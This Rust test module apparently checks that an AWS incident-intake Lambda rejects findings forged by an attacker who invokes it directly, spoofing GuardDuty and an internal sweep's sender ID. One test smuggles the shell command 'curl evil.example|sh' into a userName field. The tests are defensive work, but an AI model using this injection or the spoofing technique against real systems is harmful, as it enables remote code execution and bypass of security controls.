//! Findings of the attacker's own, handed to intake itself past the queue that refuses them.

use aws_sdk_lambda::{Client, primitives::Blob};
use backstop_core::incident::{Incident, Status};
use backstop_tests::{Role, Scene, refusals};
use serde_json::{Value, json};

use crate::{
    attacker,
    power::physical,
    tried::{Ended, Tried},
};

const RIGHT: &str = "lambda:InvokeFunction";

pub(crate) async fn attacks(scene: &Scene) -> Vec<Tried> {
    let sdk = scene
        .environment
        .account()
        .sdk_config(attacker::with(scene, &[RIGHT]).await);
    let forger = Forger {
        lambda: Client::new(&sdk),
        intake: physical(scene, "IntakeFunction").await,
        sender: sweeps_id(scene).await,
    };
    let mut tried = Vec::new();

    // As one of GuardDuty's, and as what the sweep has just read there: a caller writes the sender, too.
    for (attack, source, id) in [
        (
            "a forged event to intake itself",
            "aws.guardduty",
            "0000000000000000000000000000f0a1",
        ),
        (
            "a forged message of the sweep to intake itself",
            "backstop.sweep",
            "0000000000000000000000000000f0a2",
        ),
    ] {
        let victim = scene.leak(true).await;
        let event = scene.finding_of_leak(&victim, id);
        forger
            .send(&json!({ "source": source, "detail-type": event.detail_type, "detail": event.detail }))
            .await;
        let is_asked = |incident: &Incident| incident.status() == Status::AwaitingApproval;
        let (_, incident) = scene.until(id, is_asked).await;
        assert_eq!(refusals(&incident), ["unconfirmed-source"], "{attack}");
        assert_eq!(scene.state(&victim).await, (true, false), "{attack}");
        tried.push(Tried::new(
            attack,
            RIGHT,
            Ended::Noticed,
            "people are asked, and told that no service has it",
        ));
    }

    let victim = scene.leak(true).await;
    let event = scene.finding_of_leak(&victim, "0000000000000000000000000000f0a3");
    forger.send(&event.detail).await;
    tried.push(
        forger
            .parked(scene, "a bare finding to intake itself", "f0a3")
            .await,
    );

    let mut event = scene.finding_of_leak(&victim, "0000000000000000000000000000f0a4");
    event.detail["resource"]["accessKeyDetails"]["userName"] = json!("x$(curl evil.example|sh)");
    forger
        .send(&json!({ "source": "aws.guardduty", "detail-type": event.detail_type, "detail": event.detail }))
        .await;
    tried.push(
        forger
            .parked(scene, "a name that is a shell command", "f0a4")
            .await,
    );
    assert_eq!(scene.state(&victim).await, (true, false));
    tried
}

/// The unique id of the sweep's role, which anybody may know who can read roles.
async fn sweeps_id(scene: &Scene) -> String {
    let role = Role::of(&scene.environment, "sweep").await.name;
    let role = scene.iam().get_role().role_name(role).send().await.unwrap();
    role.role().unwrap().role_id().to_owned()
}

struct Forger {
    lambda: Client,
    intake: String,
    sender: String,
}

impl Forger {
    async fn send(&self, body: &Value) {
        let record = json!({ "messageId": "forged", "receiptHandle": "forged", "body": body.to_string(),
            "attributes": { "SenderId": format!("{}:sweep", self.sender) }, "messageAttributes": {},
            "md5OfBody": "", "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:::x", "awsRegion": "x" });
        let payload = json!({ "Records": [record] }).to_string();
        let invoke = self.lambda.invoke().function_name(&self.intake);
        let answer = invoke.payload(Blob::new(payload)).send().await.unwrap();
        assert_eq!(answer.function_error(), None, "{answer:?}");
    }

    /// It opened nothing, and stands among the dead letters, which page.
    async fn parked(&self, scene: &Scene, attack: &str, id: &str) -> Tried {
        assert!(scene.logs_of(id).await.is_empty(), "{attack}");
        let letters = scene.environment.dead_letters().await.unwrap();
        let letter = letters.iter().find(|letter| letter.body.contains(id));
        let letter = letter.unwrap_or_else(|| panic!("{attack}: not parked: {letters:?}"));
        Tried::new(attack, RIGHT, Ended::Refused, format!("parked: {}", letter.error))
    }
}
